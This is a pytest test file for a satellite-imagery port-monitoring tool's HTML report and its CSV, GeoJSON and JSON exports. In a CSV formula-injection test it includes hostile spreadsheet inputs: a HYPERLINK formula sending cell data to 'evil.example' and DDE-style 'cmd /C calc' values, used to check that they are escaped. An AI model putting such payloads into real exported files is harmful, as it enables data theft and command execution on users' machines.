"""The HTML report, its charts and exports, and the timeline/report commands."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
import warnings
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from matplotlib import font_manager
from shapely.geometry import LineString
from shapely.geometry.base import BaseGeometry

from _a11y import (
    doubled_tab_stops,
    elements,
    small_stacked_links,
    table_problems,
    unnamed_focus_boxes,
    unreachable_scrollers,
)
from _report_world import _ship, _wgs, build
from sitewatch.analysis import load_timeline
from sitewatch.analysis.occupancy import Timeline, TimelineParams
from sitewatch.cli import main
from sitewatch.evaluate import evaluate_workspace
from sitewatch.model import Berth, Detection, Observation
from sitewatch.report.charts import (
    fallback_families,
    site_map_figure,
    site_map_png,
    timeline_chart_png,
    timeline_figure,
)
from sitewatch.report.exports import detections_to_geojson, timeline_to_csv
from sitewatch.report.html import write_report
from sitewatch.testing import tiny_site
from sitewatch.vessels import catalogue
from sitewatch.workspace import Workspace


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    w = build(tmp_path_factory.mktemp("report") / "ws")
    evaluate_workspace(w)
    return w


@pytest.fixture(scope="module")
def html(ws: Workspace) -> str:
    return write_report(ws, None, ws.root / "out" / "report.html").read_text(encoding="utf-8")


def test_report_is_one_offline_file(html: str) -> None:
    assert html.startswith("<!DOCTYPE html>")
    assert not re.search(r"https?://", html), "the report must not reference any address"
    assert not re.search(r"<(script|link|iframe)\b", html)
    assert not re.search(r'src="(?!data:image/png;base64,)', html), "every image is embedded"
    assert html.count("data:image/png;base64,") >= 5  # map, chart, two change chips, observation chips
    # A Content-Security-Policy of its own (a file has no headers), first in the head, allowing what it uses
    # (data: PNGs, its <style>) and nothing from anywhere: it had none, so a slip in escaping could load or run anything.
    from markupsafe import escape

    from sitewatch.report.html import REPORT_CSP

    meta = f'<meta http-equiv="Content-Security-Policy" content="{escape(REPORT_CSP)}">'
    assert html.index(meta) < html.index("<style>") < html.index("<body")
    assert {d.split()[0]: d.split()[1:] for d in REPORT_CSP.split("; ")} == {
        "default-src": ["'none'"], "img-src": ["data:"], "style-src": ["'unsafe-inline'"], "base-uri": ["'none'"],
        "form-action": ["'none'"]}  # fmt: skip
    assert not re.search(r"<(form|base|object|embed)\b", html)


def test_report_every_scrolling_box_takes_keyboard_focus(html: str) -> None:
    """A table (sideways on a phone or at 200% zoom) or a .scroll box scrolls by itself: without
    focus, a reader on a keyboard cannot scroll one that holds no link (axe: scrollable-region-focusable)."""
    els = elements(html)
    assert any(e.tag == "table" for e in els) and any("scroll" in e.classes for e in els)
    assert [e.tag for e in unreachable_scrollers(els)] == []
    # A date's image ids, one a line, were links 14 px high and 9 px apart (WCAG 2.2's target size, 2.5.8).
    assert any(e.tag == "td" and "ids" in e.classes and len([c for c in e.children if c.tag == "a"]) > 1 for e in els)
    assert small_stacked_links(html, els) == []


def test_report_tables_have_captions_and_scoped_headers(html: str) -> None:
    """The evaluation, links and provenance tables (the report with an evaluation) are named by a
    caption and their header cells scoped; every box that takes focus has a name to announce."""
    els = elements(html)
    assert table_problems(els) == []
    assert unnamed_focus_boxes(els) == []


def test_report_a_table_in_a_scroll_box_is_one_tab_stop(html: str) -> None:
    """The timeline's, detections' and changes' tables took focus inside their scroll boxes, which took
    it too: two Tab presses for one table, the first of them seeming to do nothing."""
    els = elements(html)
    assert [e.tag for e in doubled_tab_stops(els)] == []
    assert any(e.tag == "table" and "scroll" in e.ancestors[-1].classes for e in els)


def test_report_content_lies_in_one_main_landmark(html: str) -> None:
    """A screen reader jumps to the main landmark; content outside every landmark is missed by that jump."""
    els = elements(html)
    assert [e.tag for e in els].count("main") == 1
    loose = [e.tag for e in els if e.tag in {"h1", "h2", "h3", "p", "table", "figure", "ul"}
             and not any(a.tag == "main" for a in e.ancestors)]  # fmt: skip
    assert loose == []


def test_report_pictures_say_in_words_what_they_show(ws: Workspace, html: str) -> None:
    """The map's alt was "map of dunai with berths and detections" and a chip's "chip" and an observation
    id: a screen reader heard neither the berths nor what was outlined on which image."""
    with ws.store() as st:
        site = st.get_site("dunai")
        detections = st.detections(site_id="dunai")
    imgs = [e for e in elements(html) if e.tag == "img"]
    alts = [e.attrs.get("alt", "") for e in imgs]
    assert imgs and all(a.strip() for a in alts)
    maps = [a for a in alts if a.startswith(f"Map of {site.name or site.id}")]
    assert len(maps) == 1
    assert all((b.name or b.id) in maps[0] for b in site.berths)
    n = sum(d.kind == "vessel" for d in detections)
    assert f"{n} vessel" in maps[0] and maps[0].endswith("outlined by kind")
    chips = [a for a in alts if not a.startswith(("Map of", "Bar chart of"))]
    assert chips and all(re.search(r"\d{4}-\d\d-\d\d.*: \d+ vessels?\b.* outlined", a) for a in chips), chips[:3]
    assert any(a.startswith("Close-up of detection ") for a in chips) and any(a.startswith("Before, ") for a in chips)
    # A chip said "1 vessel" of a ship whose length the eye sees against the scale bar, and a before or after
    # chip ("Before, 2024-10-17 01:00 UTC · optical 3 m") not which site it shows.
    assert all(re.search(r": 0 vessels|: \d+ vessels? \((≥ )?\d+ m\b", a) for a in chips), chips
    said = {int(m) for a in chips for m in re.findall(r"\b1 vessel \((\d+) m\)", a)}
    assert said and said <= {round(d.length_m) for d in detections if d.kind == "vessel"}
    assert all(f"image of {site.name}, " in a for a in chips if a.startswith(("Before, ", "After, ")))


def test_a_chip_alt_names_only_the_vessels_on_its_ground() -> None:
    """A close-up (or a change's chip) is a corner of its image: its alt listed the length of every ship in
    the image, "3 vessels (60 m, 114 m, 250 m)", under a close-up that showed one."""
    from sitewatch.report.html import _outlined_on_chip

    def vessel(n: int, dx: float, length: float) -> Detection:
        return Detection(f"o#{n}", "o", "vessel", _wgs(_ship(dx, 0, length, 16.0)), length, 16.0, 90.0, 0.9, "t", "0.1")

    ships = [vessel(0, 0, 114.0), vessel(1, 90, 60.0), vessel(2, 450, 250.0)]  # the last 450 m east of the first
    close_up = ships[0].footprint.envelope
    assert _outlined_on_chip(ships, close_up, margin_m=120.0) == "2 vessels (60 m, 114 m)"
    assert _outlined_on_chip(ships, close_up, margin_m=300.0) == "3 vessels (60 m, 114 m, 250 m)"  # the third's bow


def test_report_timeline_chart_says_in_words_what_it_shows(ws: Workspace, html: str) -> None:
    """A reader who cannot see the chart hears its figures and where each date's are, not "occupancy timeline"."""
    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    charts = [e for e in elements(html) if e.tag == "img" and "vessels per usable date" in e.attrs.get("alt", "")]
    assert len(charts) == 1
    alt = charts[0].attrs["alt"]
    assert tl.periods and "table below" in alt
    for p in tl.periods:
        assert f"period {p.index}, {p.start.isoformat()} to {p.end.isoformat()}: {p.presence_days} presence day" in alt


def test_report_says_in_words_what_its_green_and_red_mean(html: str) -> None:
    """An F1 or a length error drawn green or red (target met or missed) said so by colour alone, which a
    colour-blind reader cannot see (WCAG 1.4.1)."""
    marked = [e for e in elements(html) if e.tag == "td" and "num" in e.classes and e.classes & {"good", "bad"}]
    assert marked
    for e in marked:
        assert ("(meets target)" if "good" in e.classes else "(misses target)") in e.inner_text()


def test_report_says_simulated_everywhere(html: str) -> None:
    assert html.count("Simulated imagery") >= 3


def test_report_lists_provenance_of_each_detection(ws: Workspace, html: str) -> None:
    with ws.store() as st:
        dets = st.detections()
        obs = {o.id: o for o in st.observations()}
    assert dets
    for d in dets:
        o = obs[d.observation_id]
        assert d.id in html and o.scene.id in html and o.sha256 in html
    assert "sitewatch 0." in html  # code version


def test_report_shows_change_and_eval(html: str) -> None:
    assert "2024-10-17 → 2024-10-20" in html
    assert "1 departure (pier-1)" in html and "crane 1 → 0" in html
    assert "F1 1.000" in html
    assert "timeline presence days" in html
    assert "1 presence day on 2024-10-17" in html
    assert "size alone cannot separate" in html  # landing ship at 10 m: candidates, not a verdict
    assert f"shares among the {len(catalogue())} classes of sitewatch's catalogue" in html  # what a likelihood is relative to
    assert "· 1 vessel, 1 crane<br>" in html and "· 0 vessels<br>" in html  # captions count by kind: a crane is no vessel


def test_report_never_calls_nothing_to_match_a_perfect_score(tmp_path: Path) -> None:
    w = build(tmp_path / "ws", detections=False)
    for truth in (w.root / "archive").rglob("*.truth.geojson"):
        truth.write_text(json.dumps(json.loads(truth.read_text(encoding="utf-8")) | {"features": []}), encoding="utf-8")
    evaluate_workspace(w)
    html = write_report(w, None, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "1.000" not in html and 'class="num good"' not in html
    assert "nothing to match" in html and "precision, recall and F1 are undefined" in html
    assert "over 0 ships" not in html and "no matched ship longer than 80 m" in html


def test_report_calls_precision_with_nothing_detected_undefined(tmp_path: Path) -> None:
    w = build(tmp_path / "ws", detections=False)  # truth ships, no detection
    evaluate_workspace(w)
    html = write_report(w, None, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "F1 0.000 (precision undefined: no vessel detected, recall 0.000)" in html
    assert "1.000" not in html


def test_report_by_default_covers_the_sites_with_observations(tmp_path: Path) -> None:
    from shapely.geometry import box

    from sitewatch.model import Site

    w = build(tmp_path / "ws")
    with w.store() as store:
        store.put_site(Site(id="empty-port", name="Empty port", kind="port", geometry=box(10.0, 40.0, 10.02, 40.02)))
    html = write_report(w, None, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "Dunai" in html and "Empty port" not in html


def test_report_works_without_eval_or_images(tmp_path: Path) -> None:
    w = build(tmp_path / "ws", simulated=False)
    for tif in (tmp_path / "ws").rglob("*.tif"):
        tif.unlink()
    html = write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    assert "Simulated imagery" not in html and "image not available" in html
    assert "Evaluation against ground truth" not in html


def test_timeline_chart_of_a_site_without_observations_draws_no_axes(tmp_path: Path) -> None:
    """A site with no usable observation got a chart with matplotlib's default 0-1 date axis and a
    "vessels" scale over nothing, which read as data; now it says only that there is none."""
    from sitewatch.testing import tiny_site, workspace_with_sites

    w = workspace_with_sites(tmp_path / "ws", tiny_site("empty"))
    with w.store() as st:
        tl = load_timeline(st, "empty")
    assert not tl.periods
    fig = timeline_figure(tl)
    (ax,) = fig.axes
    assert not ax.axison and ax.get_ylabel() == ""
    assert [t.get_text() for t in ax.texts] == ["no usable observations"]
    assert timeline_chart_png(tl)[:8] == b"\x89PNG\r\n\x1a\n"

def test_timeline_chart_and_exports(ws: Workspace) -> None:
    with ws.store() as st:
        tl = load_timeline(st, "dunai")
        gj = detections_to_geojson(st)
    assert timeline_chart_png(tl)[:8] == b"\x89PNG\r\n\x1a\n"
    rows = list(csv.DictReader(io.StringIO(timeline_to_csv(tl))))
    assert [r["vessels"] for r in rows] == ["1", "0"] and rows[1]["departure_berths"] == "pier-1"
    assert len(gj["features"]) == 3 and gj["features"][0]["properties"]["sha256"]


def test_timeline_csv_cells_from_gazetteers_are_never_formulas(ws: Workspace) -> None:
    """A berth id "=HYPERLINK(…)" from a downloaded gazetteer reached the CSV as a formula a spreadsheet would run."""
    import dataclasses

    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    row = dataclasses.replace(tl.rows[1], departure_berths=(evil,), at_berth={"@SUM(1)": 1})
    tl = dataclasses.replace(tl, rows=(tl.rows[0], row))
    rows = list(csv.DictReader(io.StringIO(timeline_to_csv(tl))))
    assert rows[1]["departure_berths"] == "'" + evil and rows[1]["at_berth"] == "'@SUM(1):1"
    assert rows[0]["vessels"] == "1" and rows[0]["date"][:1] == "2"  # numbers and dates as they were
    for lead in ("+", "-", "\t", "\r"):  # the other starts a spreadsheet reads as a formula (OWASP)
        row = dataclasses.replace(tl.rows[1], departure_berths=(lead + "cmd|' /C calc'!A0",))
        (read,) = csv.DictReader(io.StringIO(timeline_to_csv(dataclasses.replace(tl, rows=(row,))), newline=""))
        assert read["departure_berths"] == "'" + lead + "cmd|' /C calc'!A0", repr(lead)


def test_a_line_break_inside_a_csv_cell_stays_in_its_row(ws: Workspace) -> None:
    """Lines end CRLF (RFC 4180), so a cell holding a lone CR is quoted: Python 3.11 and 3.12 wrote it
    bare under "\n" line ends, and a reader (Python's csv, a spreadsheet) broke the row in two there."""
    import dataclasses

    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    for brk in ("\r", "\n", "\r\n"):
        row = dataclasses.replace(tl.rows[1], departure_berths=(f"pier{brk}east",))
        text = timeline_to_csv(dataclasses.replace(tl, rows=(row,)))
        (read,) = csv.DictReader(io.StringIO(text, newline=""))
        assert read["departure_berths"] == f"pier{brk}east" and read["site_id"] == "dunai", repr(brk)


def test_timeline_csv_writes_simulated_as_true_or_false(ws: Workspace) -> None:
    import dataclasses

    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    real = dataclasses.replace(tl, rows=tuple(dataclasses.replace(r, simulated=False) for r in tl.rows))
    assert {r["simulated"] for r in csv.DictReader(io.StringIO(timeline_to_csv(tl)))} == {"true"}
    assert {r["simulated"] for r in csv.DictReader(io.StringIO(timeline_to_csv(real)))} == {"false"}  # not "True"/"False"


def test_timeline_json_is_the_whole_timeline(ws: Workspace) -> None:
    from sitewatch.analysis import timeline_to_dict
    from sitewatch.report.exports import timeline_to_json

    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    assert json.loads(timeline_to_json(tl)) == timeline_to_dict(tl)


def test_date_zone_keeps_the_minutes_typed(ws: Workspace) -> None:
    """--utc-offset +04:05 is 4.0833… hours: truncating its minutes gave "UTC+4:04"."""
    from sitewatch.cli.options import UtcOffset
    from sitewatch.report.exports import date_zone

    assert [date_zone(UtcOffset().convert(t, None, None)) for t in ("+04:05", "-08:10", "+01:40")] == [
        "UTC+4:05", "UTC-8:10", "UTC+1:40"
    ]


def test_detections_geojson_carries_each_detections_provenance(tmp_path: Path) -> None:
    from shapely.geometry import box

    from sitewatch.model import Site

    with build(tmp_path / "ws").store() as st:
        st.put_site(Site(id="other", name="Other", kind="port", geometry=box(10.0, 40.0, 10.02, 40.02)))
        obs = {o.id: o for o in st.observations("dunai")}
        dets = {d.id: d for d in st.detections(site_id="dunai")}
        features = detections_to_geojson(st, ["dunai"])["features"]
        assert detections_to_geojson(st, ["other"])["features"] == []
    assert sorted(f["properties"]["id"] for f in features) == sorted(dets)
    for f in features:
        p, d = f["properties"], dets[f["properties"]["id"]]
        o = obs[d.observation_id]
        assert (p["site_id"], p["kind"], p["berth"], p["observation_id"]) == ("dunai", d.kind, d.berth_id, o.id)
        assert (p["length_m"], p["width_m"], p["heading_deg"], p["score"]) == (d.length_m, d.width_m, d.heading_deg, d.score)
        assert p["detector"] == f"{d.detector} {d.detector_version}" and p["detector"].endswith(" 0.1")
        assert p["class_candidates"] == [[c.name, c.likelihood] for c in d.class_candidates]
        assert (p["scene_id"], p["sensor"], p["resolution_m"], p["sha256"]) == (o.scene.id, o.scene.sensor, o.scene.resolution_m, o.sha256)
        assert p["scene_id"] != p["observation_id"] and p["simulated"] is True
    vessels = [f["properties"] for f in features if f["properties"]["kind"] == "vessel"]
    assert {p["length_m"] for p in vessels} == {118.0, 114.0} and {p["width_m"] for p in vessels} == {16.0}
    assert all(p["berth"] == "pier-1" and p["class_candidates"] for p in vessels)


def test_cli_timeline_writes_csv_json_chart(ws: Workspace, tmp_path: Path) -> None:
    res = CliRunner().invoke(
        main,
        ["timeline", "dunai", "-w", str(ws.root), "--csv", str(tmp_path / "t.csv"),
         "--json", str(tmp_path / "t.json"), "--chart", str(tmp_path / "t.png")],
    )
    assert res.exit_code == 0, res.output
    assert "Simulated imagery" in res.output and "2024-10-20" in res.output
    assert json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))["presence_days"] == 1
    assert (tmp_path / "t.png").read_bytes()[:4] == b"\x89PNG"
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--json", "-", "--from", "2024-10-18"])
    assert json.loads(res.output)["rows"][0]["date"] == "2024-10-20"


def test_cli_timeline_writes_its_files_when_standard_output_is_closed(ws: Workspace, tmp_path: Path) -> None:
    # `sitewatch timeline SITE --csv t.csv | head -1`: head leaves after one line of the table.
    read_end, write_end = os.pipe()
    os.close(read_end)  # every write to standard output fails with EPIPE
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    outs = [tmp_path / "t.csv", tmp_path / "t.json", tmp_path / "t.png"]
    cmd = [sys.executable, "-m", "sitewatch", "timeline", "dunai", "-w", str(ws.root),
           "--csv", str(outs[0]), "--json", str(outs[1]), "--chart", str(outs[2])]  # fmt: skip
    try:
        subprocess.run(cmd, stdout=write_end, stderr=subprocess.DEVNULL, env=env, timeout=120, check=False)
    finally:
        os.close(write_end)
    assert [p.name for p in outs if p.exists()] == ["t.csv", "t.json", "t.png"]  # none was written


def test_cli_report_and_errors(ws: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    res = CliRunner().invoke(main, ["report", "dunai", "-w", str(ws.root), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")  # was in the assert's message, so never checked
    res = CliRunner().invoke(main, ["report", "atlantis", "-w", str(ws.root), "--out", str(out)])
    assert res.exit_code == 1 and "no site 'atlantis'" in res.output
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(tmp_path / "none")])
    assert res.exit_code == 1 and "sitewatch init" in res.output


def test_cloud_and_valid_options_are_percent_as_in_search_and_fetch(ws: Workspace) -> None:
    from sitewatch.cli.options import timeline_params

    p = timeline_params(gap_days=45, min_valid=50, max_cloud=30, utc_offset=0, max_berth_hidden=80)
    assert (p.min_valid_fraction, p.max_cloud_fraction, p.max_berth_hidden_fraction) == (0.5, 0.3, 0.8)
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--max-berth-hidden", "80", "--json", "-"])
    assert res.exit_code == 0 and json.loads(res.output)["parameters"]["max_berth_hidden_fraction"] == 0.8
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--max-cloud", "30", "--json", "-"])
    assert res.exit_code == 0, res.output
    for cmd in (["timeline", "dunai"], ["report", "dunai", "--out", str(ws.root / "r.html")]):
        res = CliRunner().invoke(main, [*cmd, "-w", str(ws.root), "--max-cloud", "130"])
        assert res.exit_code == 2 and "Invalid value for '--max-cloud'" in res.output and "0<=x<=100" in res.output
    res = CliRunner().invoke(main, ["timeline", "--help"])
    assert "Most cloud % over the site" in res.output


def test_report_takes_the_timeline_rules(ws: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    args = ["--min-valid", "100", "--utc-offset", "10", "--gap-days", "30", "--max-cloud", "20"]
    res = CliRunner().invoke(main, ["report", "dunai", "-w", str(ws.root), "--out", str(out), *args])
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8").replace("&#34;", '"')
    assert '"min_valid_fraction": 1.0' in text and '"utc_offset_hours": 10.0' in text


def test_utc_offset_dates_are_labelled_local(ws: Workspace, tmp_path: Path) -> None:
    from sitewatch.report.exports import date_zone

    assert [date_zone(h) for h in (0, 10, -3.5, 5.75)] == ["UTC", "UTC+10", "UTC-3:30", "UTC+5:45"]
    out = tmp_path / "r.html"
    res = CliRunner().invoke(main, ["report", "dunai", "-w", str(ws.root), "--out", str(out), "--utc-offset", "10"])
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8")
    assert '<th scope="col">date (local, UTC+10)</th>' in text and "date (UTC)" not in text
    assert "Dates are local dates at UTC+10" in text
    assert '<th scope="col">date (UTC)</th>' in write_report(ws, ["dunai"], tmp_path / "utc.html").read_text(encoding="utf-8")
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--utc-offset", "10"])
    assert res.exit_code == 0 and "Dates are local dates at UTC+10." in res.output and "(UTC)" not in res.output
    # Without an offset the table's dates are UTC dates, and its header says so (it said "date" alone).
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root)])
    assert res.exit_code == 0 and any(line.startswith("date (UTC)  seen by sensor") for line in res.output.splitlines())
    helptext = " ".join(CliRunner().invoke(main, ["timeline", "--help"]).output.split())
    assert "First date kept: a UTC date, or with --utc-offset a local date" in helptext
    assert "(UTC)." not in helptext


@pytest.mark.parametrize(
    "cmd, option",
    [(["timeline", "dunai", "--csv"], "--csv"), (["timeline", "dunai", "--json"], "--json"),
     (["timeline", "dunai", "--chart"], "--chart"), (["report", "dunai", "--out"], "--out")],
)  # fmt: skip
def test_outputs_into_a_missing_folder_are_refused(ws: Workspace, tmp_path: Path, cmd: list[str], option: str) -> None:
    target = tmp_path / "nonexistent" / "x.out"
    res = CliRunner().invoke(main, [*cmd, str(target), "-w", str(ws.root)])
    assert res.exit_code == 2, res.output
    assert f"Invalid value for '{option}'" in res.output and f"folder {target.parent} does not exist" in res.output
    assert not target.parent.exists()


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_code_version_names_only_sitewatchs_own_checkout(tmp_path: Path) -> None:
    """An installed package inside some other repository (a venv in the user's project) gets no commit."""
    from sitewatch import __version__
    from sitewatch.report.html import _code_version

    def repo(root: Path, project: str, package: str) -> Path:
        (root / package).mkdir(parents=True)
        (root / package / "__init__.py").write_text("", encoding="utf-8")
        (root / "pyproject.toml").write_text(f'[project]\nname = "{project}"\n', encoding="utf-8")
        env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
        for args in (["init", "-q"], ["add", "."], ["commit", "-qm", "x"]):
            subprocess.run(["git", "-C", str(root), *args], check=True, env=os.environ | env, capture_output=True)
        return root / package

    checkout = repo(tmp_path / "sitewatch", "sitewatch", "src/sitewatch")
    assert re.fullmatch(re.escape(__version__) + r" \(git [0-9a-f]{4,}\)", _code_version(checkout))
    venv = repo(tmp_path / "investigation", "my-investigation", ".venv/lib/python3.11/site-packages/sitewatch")
    assert _code_version(venv) == __version__
    other_src = repo(tmp_path / "other", "other", "src/sitewatch")  # same layout, another project
    assert _code_version(other_src) == __version__


def _png_size(b64: str) -> tuple[int, int]:
    import base64
    import struct

    head = base64.b64decode(b64[:40])
    return struct.unpack(">II", head[16:24])  # the PNG IHDR: width, height


def _scene_box(o: Observation) -> BaseGeometry:
    from shapely.geometry import box

    from sitewatch.geo import reproject_geometry

    t = o.grid.transform
    x0, y0 = t[2], t[5]
    x1, y1 = x0 + t[0] * o.grid.width, y0 + t[4] * o.grid.height
    return reproject_geometry(box(min(x0, x1), min(y0, y1), max(x0, x1), max(y0, y1)), o.grid.crs, "EPSG:4326")


def test_observation_chip_of_a_port_wide_window_keeps_its_pixels(ws: Workspace) -> None:
    """A wide window is drawn at two screen pixels per image pixel up to 960 px, not squeezed into ~270 px."""
    import base64

    from sitewatch.report.charts import chip_png
    from sitewatch.report.html import OVERVIEW_CHIP_PX

    with ws.store() as st:
        o = next(o for o in st.observations("dunai") if o.scene.sensor == "optical")  # 400 x 400 px of 3 m
    png = chip_png(ws.root / o.path, o, [], _scene_box(o), margin_m=0, size_px=OVERVIEW_CHIP_PX)
    assert png is not None
    width, height = _png_size(base64.b64encode(png).decode())
    assert width >= 790 and height >= 790


def test_chip_title_is_as_large_as_its_caption_and_fits_the_chip(ws: Workspace) -> None:
    """A chip's title (its date, sensor and SIMULATED label, which a picture copied out of the report
    keeps) was drawn 9 px high: now 12 px, the caption's size, on lines no wider than the image."""
    from sitewatch.report.charts import _CHIP_DPI, chip_figure

    with ws.store() as st:
        o = next(o for o in st.observations("dunai") if st.detections(observation_id=o.id))
        dets = st.detections(observation_id=o.id)
    fig = chip_figure(ws.root / o.path, o, dets, dets[0].footprint, margin_m=40)
    assert fig is not None
    title = fig.axes[0].title
    assert title.get_fontsize() * _CHIP_DPI / 72 >= 12
    assert "SIMULATED IMAGERY" in title.get_text() and o.scene.sensor in title.get_text()
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    canvas = FigureCanvasAgg(fig)
    canvas.draw()
    renderer = canvas.get_renderer()
    assert title.get_window_extent(renderer).width <= fig.axes[0].get_window_extent(renderer).width


def test_report_has_close_ups_of_detections_naming_observation_and_image(ws: Workspace, html: str) -> None:
    assert "Close-ups of the strongest detections" in html
    section = html.split("Close-ups of the strongest detections", 1)[1].split("<h3>", 1)[0]
    with ws.store() as st:
        dets = st.detections(site_id="dunai")
        obs = {o.id: o for o in st.observations("dunai")}
    assert section.count("<figure>") == len(dets)  # 3 detections, under the cap of 12
    for d in dets:
        assert d.id in section and obs[d.observation_id].path in section
        assert f"observation {d.observation_id}" in section
    for b64 in re.findall(r'base64,([A-Za-z0-9+/=]+)"', section):
        assert min(_png_size(b64)) >= 200  # big enough to see the outline on the ship


def test_timeline_dash_means_standard_output_for_csv_too(ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--csv", "-"])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert rows and rows[0]["site_id"] == "dunai" and "seen by sensor" not in res.stdout
    assert not (tmp_path / "-").exists()
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--csv", "-", "--json", "t.json"])
    assert res.exit_code == 0 and res.stdout.startswith("site_id,") and "wrote t.json" in res.stderr
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--csv", "-", "--json", "-"])
    assert res.exit_code == 2 and "both want standard output" in res.output
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--chart", "-"])
    assert res.exit_code == 2 and "needs a file name" in res.output
    assert not (tmp_path / "-").exists()


def test_report_names_observations_by_the_ids_show_accepts(tmp_path: Path) -> None:
    w = build(tmp_path / "ws")
    # Day 20 not detected yet: both looks left out. (Through the store: the spatial index's triggers
    # need its SQL functions on any connection that updates a feature table.)
    with w.store() as st, st.transaction() as db:
        db.execute("UPDATE observations SET detected_at = NULL WHERE observation_id LIKE '%-20-%'")
    html = write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    not_used = html.split("Observations not used:", 1)[1].split("</p>", 1)[0]
    for sensor in ("sar", "optical"):
        assert f"dunai:sim-dunai-2024-10-20-{sensor}" in not_used
    timeline = html.split("<h3>Timeline</h3>", 1)[1].split("</table>", 1)[0]
    assert "dunai:sim-dunai-2024-10-17-sar" in timeline and "seed-story" not in timeline  # not the scene id
    assert "observation dunai:sim-dunai-2024-10-17-optical" in html  # chip captions
    with w.store() as st:
        for d in st.detections(site_id="dunai"):
            assert f">{d.observation_id}</a> · {st.get_observation(d.observation_id).scene.id}" in html  # linked to its image


def test_the_date_axis_names_the_year_not_the_month_of_its_last_tick() -> None:
    from datetime import date

    import matplotlib.dates as mdates
    from matplotlib.figure import Figure

    from sitewatch.report.charts import _date_formatter

    ax = Figure().subplots()
    ax.plot([date(2024, 10, 1), date(2024, 11, 30)], [0, 1])
    locator = mdates.AutoDateLocator(maxticks=8)
    ax.xaxis.set_major_locator(locator)
    formatter = _date_formatter(locator)
    ax.xaxis.set_major_formatter(formatter)
    labels = formatter.format_ticks(locator())
    assert labels[0] == "Oct" and "Dec" in labels
    assert formatter.get_offset() == "2024"  # was "2024-Dec" for an October-November period


def test_a_name_with_dollar_signs_is_drawn_as_written_not_as_mathtext() -> None:
    from matplotlib.text import Text

    from sitewatch.report.charts import _title

    title = _title("Pier $1$ and $2$", simulated=False)
    drawn, math = Text(text=title)._preprocess_math(title)
    assert (drawn, math) == ("Pier $1$ and $2$", False)  # was mathtext: "Pier 1 and 2" in italics


def test_report_gives_the_timeline_parameters_as_json_values(html: str) -> None:
    import html as html_lib

    found = re.search(r"Timeline parameters: <code>(.*?)</code>", html)
    assert found is not None
    params = json.loads(html_lib.unescape(found.group(1)))
    assert params["min_valid_fraction"] == 0.5 and params["gap_days"] == 45  # were "0.5", "45"
    assert params["start"] is None and params["end"] is None  # were "None"


def test_timeline_csv_says_which_dates_are_local(ws: Workspace) -> None:
    from sitewatch.analysis.occupancy import TimelineParams

    with ws.store() as store:
        utc = list(csv.DictReader(io.StringIO(timeline_to_csv(load_timeline(store, "dunai")))))
        local = list(csv.DictReader(io.StringIO(timeline_to_csv(load_timeline(store, "dunai", TimelineParams(utc_offset_hours=-3.5))))))
    assert {r["date_zone"] for r in utc} == {"UTC"}
    assert {r["date_zone"] for r in local} == {"UTC-3:30"}  # the file alone did not say its dates were shifted


def test_a_report_without_sites_has_no_dangling_separator(tmp_path: Path) -> None:
    from sitewatch.workspace import init_workspace

    ws = init_workspace(tmp_path / "empty")
    text = (write_report(ws, None, tmp_path / "r.html")).read_text(encoding="utf-8")
    assert "No site with observations: bring imagery in" in text
    assert "Sites: ·" not in text and '<p class="meta"><a href="#provenance">provenance</a></p>' in text


def test_utc_offset_is_read_as_zones_are_written_and_must_exist(ws: Workspace) -> None:
    def run(offset: str) -> Any:
        return CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--json", "-", f"--utc-offset={offset}"])

    for text, hours in (("10", 10.0), ("+05:30", 5.5), ("-03:00", -3.0), ("UTC+10", 10.0), ("-3.5", -3.5)):
        res = run(text)
        assert res.exit_code == 0, (text, res.output)
        assert json.loads(res.stdout)["parameters"]["utc_offset_hours"] == hours
    for text in ("20", "-13", "5:75", "+-5", "ten"):  # 20 was taken as UTC+20, which no place keeps
        res = run(text)
        assert res.exit_code == 2 and f"'{text}'" in res.output, (text, res.output)


def test_chart_fonts_fall_back_only_to_installed_families() -> None:
    assert fallback_families({"DejaVu Sans", "Droid Sans Fallback", "Arial"}) == ["Droid Sans Fallback"]
